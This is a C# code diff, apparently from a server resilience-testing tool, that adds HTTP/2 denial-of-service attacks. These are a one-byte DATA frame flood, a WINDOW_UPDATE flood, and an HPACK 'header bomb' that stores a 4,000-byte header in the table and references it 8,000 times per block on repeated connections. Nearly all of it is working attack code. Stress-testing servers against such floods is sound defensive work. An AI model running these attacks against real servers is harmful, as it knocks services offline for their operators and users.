@@ -19,6 +19,11 @@ internal sealed class FrameFlood(string name, Func<int, byte[]> batch) : Attack(
     /// <summary>DATA without content on an open stream.</summary>
     public static byte[] EmptyData(int number) => number == 0 ? Frames.Make(1, 4, 1, Frames.Post) : Many(_ => Frames.Make(0, 0, 1, []));
 
+    /// <summary>One byte of content to a frame of ten.</summary>
+    public static byte[] SmallData(int number) => number == 0 ? Frames.Make(1, 4, 1, Frames.Post) : Many(_ => Frames.Make(0, 0, 1, [1]));
+
+    public static byte[] WindowUpdate(int number) => Many(_ => Frames.Make(8, 0, 0, [0, 0, 0, 1]));
+
     /// <summary>A header block that never ends.</summary>
     public static byte[] EmptyContinuation(int number) => number == 0 ? Frames.Make(1, 0, 1, Frames.Get) : Many(_ => Frames.Make(9, 0, 1, []));
 
@@ -63,6 +68,34 @@ internal sealed class ZeroWindows(int count) : Attack("h2-zero-windows", $"{coun
             byte[] all = [.. Frames.PrefaceWith([0, 4, 0, 0, 0, 0]), .. Enumerable.Range(0, Streams).SelectMany(i => Frames.Make(1, 5, (2 * i) + 1, Frames.GetLarge))];
             tally.Sent(await socket.SendAsync(all, cancel));
             while (IsOpen(socket, buffer)) await Wait(Look, cancel);
+        },
+        cancel);
+}
+
+/// <summary>
+/// Header blocks that are small on the wire and large when they are unpacked: a field of 4,000 bytes in the table of HPACK, named 8,000 times by one byte each
+/// (RFC 7541 section 7.3).
+/// </summary>
+internal sealed class HeaderBombs(int count) : Attack("h2-header-bombs", $"{count} connections, 10 times a second a block of 8 KB that stands for 32 MB")
+{
+    private static readonly TimeSpan Step = TimeSpan.FromMilliseconds(100);
+    private static readonly byte[] First = [.. Frames.Get, 0x40, 1, (byte)'x', 127, 0xA1, 0x1E, .. Enumerable.Repeat((byte)'v', 4000)];
+    private static readonly byte[] Bomb = [.. Frames.Get, .. Enumerable.Repeat((byte)0xBE, 8000)];
+
+    public override bool NeedsHttp2 => true;
+
+    protected override Task Go(int port, Tally tally, CancellationToken cancel) => Keep(
+        port, count, tally,
+        async socket =>
+        {
+            var buffer = new byte[16 * 1024];
+            tally.Sent(await socket.SendAsync(Frames.Preface, cancel));
+            tally.Sent(await socket.SendAsync(Frames.Make(1, 5, 1, First), cancel));
+            for (var stream = 3; IsOpen(socket, buffer); stream += 2)
+            {
+                tally.Sent(await socket.SendAsync(Frames.Make(1, 5, stream, Bomb), cancel));
+                await Wait(Step, cancel);
+            }
         },
         cancel);
 }
